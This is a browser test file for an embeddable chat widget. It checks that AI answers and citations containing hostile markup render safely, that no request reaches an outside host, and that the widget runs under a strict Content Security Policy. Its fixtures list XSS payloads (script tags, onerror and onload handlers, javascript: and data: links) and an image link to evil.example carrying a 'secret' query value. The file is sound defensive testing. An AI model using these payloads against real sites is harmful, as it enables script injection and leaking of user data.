"""Hostile answers run nothing and load nothing; the widget works under a strict host CSP."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.widget.fake_chat import FakeChat, snippet

pytestmark = pytest.mark.browser

PAYLOAD = [
    "<script>window.pwnedFlag = 'script'</script> ",
    "<img src=x onerror=\"window.pwnedFlag = 'img'\"> ",
    "[click me](javascript:window.pwnedFlag='link') ",
    "![tracker](https://evil.example/leak.png?q=secret) ",
    "<svg onload=\"window.pwnedFlag='svg'\"></svg> ",
    "[data](data:text/html,<script>window.pwnedFlag='data'</script>) ",
    "[safe](https://docs.example.com/x)",
]


@pytest.fixture
def widget_origin(live_daphne: str) -> str:
    return live_daphne


def test_an_xss_payload_in_an_answer_runs_nothing_and_loads_nothing(visit, host_site, widget_origin):
    fake = FakeChat(
        chunks=PAYLOAD,
        citations=[
            {
                "n": 1,
                "title": "<b>x</b>",
                "url": "javascript:alert(1)",
                "snippet": "<img src=x onerror=window.pwnedFlag='cite'>",
            }
        ],
    )
    seen = visit()
    fake.install(seen.page, widget_origin)
    page = seen.page
    page.goto(host_site.serve(snippet(widget_origin, fake.bot_id)))
    page.locator("chat-widget .cw-launch").click()
    page.locator("chat-widget .cw-input").fill("Show me something nasty")
    page.keyboard.press("Enter")
    answer = page.locator("chat-widget .cw-assistant").last
    answer.locator(".cw-fb").wait_for()
    page.locator("chat-widget .cw-cite").first.hover()
    assert page.evaluate("() => window.pwnedFlag") is None
    body = answer.locator(".cw-body")
    expect(body.locator("img, script, svg, iframe")).to_have_count(0)
    assert "<script>window.pwnedFlag = 'script'</script>" in body.text_content()
    hrefs = body.locator("a").evaluate_all("as => as.map(a => [a.href, a.rel, a.target, a.textContent])")
    assert hrefs == [
        ["https://evil.example/leak.png?q=secret", "noopener noreferrer", "_blank", "Image: tracker"],
        ["https://docs.example.com/x", "noopener noreferrer", "_blank", "safe"],
    ]
    assert "click me" in body.text_content()
    expect(answer.locator(".cw-cite a")).to_have_count(0)
    assert [url for url in seen.requests if "evil.example" in url] == []
    # Clicking what used to be the javascript: link does nothing either.
    body.get_by_text("click me").click()
    assert page.evaluate("() => window.pwnedFlag") is None
    assert seen.errors == []


CASES = [
    ("**bold** and _it_ and `co<de>`", "<p><strong>bold</strong> and <em>it</em> and <code>co&lt;de&gt;</code></p>"),
    ("- one\n- two", "<ul><li>one</li><li>two</li></ul>"),
    ("```\n<b>x</b>\n```", "<pre><code>&lt;b&gt;x&lt;/b&gt;</code></pre>"),
    ("[x](vbscript:msgbox)", "<p>x</p>"),
    ("[x](/relative)", "<p>x</p>"),
    (
        "see https://a.example/p.",
        '<p>see <a href="https://a.example/p" target="_blank" rel="noopener noreferrer">https://a.example/p</a>.</p>',
    ),
    ("![x](javascript:alert)", "<p>[Image: x]</p>"),
    (
        "![chart](https://evil.example/c.png)",
        '<p><a href="https://evil.example/c.png" target="_blank" '
        'rel="noopener noreferrer" class="cw-img">Image: chart</a></p>',
    ),
    ("<a href=javascript:alert(1)>x</a>", "<p>&lt;a href=javascript:alert(1)&gt;x&lt;/a&gt;</p>"),
]


def test_the_markdown_subset_builds_only_safe_elements(visit, host_site, widget_origin):
    seen = visit()
    FakeChat().install(seen.page, widget_origin)
    page = seen.page
    page.goto(host_site.serve(snippet(widget_origin, "bot_fake")))
    page.wait_for_function("() => window.ChatWidget")
    page.evaluate(f"() => ChatWidget._loadPanel('{widget_origin}/static/widget/')")
    rendered = page.evaluate(
        """cases => cases.map(src => { const d = document.createElement('div');
           d.appendChild(ChatWidget._panel.markdown(src)); return d.innerHTML; })""",
        [src for src, _ in CASES],
    )
    assert rendered == [html for _, html in CASES]


def test_the_widget_works_under_a_strict_host_content_security_policy(visit, host_site, widget_origin):
    ws_origin = widget_origin.replace("http://", "ws://")
    csp = (
        f"default-src 'none'; script-src {widget_origin}; style-src {widget_origin}; "
        f"connect-src {widget_origin} {ws_origin}; img-src 'none'; base-uri 'none'"
    )
    seen = visit()
    page = seen.page
    page.add_init_script(
        "window.__violations = []; document.addEventListener('securitypolicyviolation',"
        " e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"
    )
    fake = FakeChat().install(page, widget_origin)
    page.goto(
        host_site.serve(
            "<p>Strict shop</p>" + snippet(widget_origin, fake.bot_id), headers={"Content-Security-Policy": csp}
        )
    )
    page.locator("chat-widget .cw-launch").click()
    page.locator("chat-widget .cw-input").fill("How long is the warranty?")
    page.keyboard.press("Enter")
    page.locator("chat-widget .cw-fb").wait_for()
    assert page.locator("chat-widget .cw-panel").evaluate("e => getComputedStyle(e).position") == "fixed"
    assert page.evaluate("() => window.__violations") == []
    assert seen.errors == []
